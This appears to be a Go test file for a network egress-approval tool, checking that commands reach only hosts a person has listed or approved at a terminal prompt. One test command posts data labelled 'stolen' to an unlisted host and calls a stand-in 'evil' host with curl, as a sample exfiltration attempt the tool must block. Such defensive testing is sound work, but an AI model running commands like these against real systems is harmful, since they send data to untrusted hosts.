package egress

import (
	"errors"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"
)

// approvals: a person approves hosts that are not listed, before a run, after it, or while it waits. The command
// reaches these and no other.
func approvals(t *testing.T, n *internet) {
	const (
		line  = "curl -sSf -d stolen https://" + files + "/up && curl -sSf https://" + evil + "/x"
		wants = "curl -sSf https://" + files + "/down >got"
	)
	p := newPerson(t, n, "npm")
	t.Run("before", func(t *testing.T) {
		n.forget()
		out, code := p.run(t, "try", "--discard", "--reach", files+":443", "--", line)
		if code == 0 || !strings.Contains(out, "It wants "+evil+":443, which a trial does not reach.") {
			t.Errorf("exit code %d\n%s", code, out)
		}
		n.got(t, "POST "+files+"/up 6")
	})
	t.Run("address", func(t *testing.T) {
		n.forget()
		out, code := p.run(t, "try", "--discard", "--reach", "151.101.0.6:8080", "--",
			"curl -sSf --noproxy '*' http://151.101.0.6:8080/x; curl -sSf --noproxy '*' http://151.101.0.7:8080/x")
		if code == 0 || !strings.Contains(out, "It wants 151.101.0.7:8080") {
			t.Errorf("exit code %d\n%s", code, out)
		}
		n.got(t, "GET 151.101.0.6:8080/x 0")
	})
	for keys, want := range map[string]string{"y k": "GET " + files + "/down 0", "n n k": "GET " + files + "/down 0", "n x": ""} {
		t.Run(keys, func(t *testing.T) {
			n.forget()
			out := p.types(t, keys, "try", "--", wants)
			_, err := os.Stat(filepath.Join(p.project, "got"))
			if (err == nil) != (want != "") || !strings.Contains(out, "wants to connect to "+files+":443") {
				t.Errorf("%v\n%s", err, out)
			}
			_ = os.Remove(filepath.Join(p.project, "got"))
			n.got(t, want)
		})
	}
}

// files is a host that nobody listed.
const files = "files.example"

// got fails unless the servers got exactly this request, or none for "".
func (n *internet) got(t *testing.T, want string) {
	t.Helper()
	n.mu.Lock()
	defer n.mu.Unlock()
	if got := strings.Join(n.requests, ", "); got != want {
		t.Errorf("the servers got %q, want %q", got, want)
	}
}

// types runs umpire on a terminal, and types the next word at each prompt.
func (p *person) types(t *testing.T, words string, args ...string) string {
	t.Helper()
	cmd := p.command(t, args...)
	terminal, err := pty.Start(cmd)
	must(t, err)
	defer terminal.Close()
	stop := time.AfterFunc(time.Minute, func() { _ = cmd.Process.Kill() })
	defer stop.Stop()
	var screen strings.Builder
	left, seen, buffer := strings.Fields(words), 0, make([]byte, 4096)
	for {
		size, err := terminal.Read(buffer)
		screen.Write(buffer[:size])
		if err != nil {
			break // the program has ended
		}
		if prompts := strings.Count(screen.String(), "  > "); prompts > seen && len(left) > 0 {
			seen = prompts
			_, err = io.WriteString(terminal, left[0]+"\n")
			must(t, err)
			left = left[1:]
		}
	}
	if err := cmd.Wait(); err != nil && !errors.As(err, new(*exec.ExitError)) {
		t.Fatal(err)
	}
	return screen.String()
}

// served is a page of a host that serves and takes files.
func served(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "down\n") }
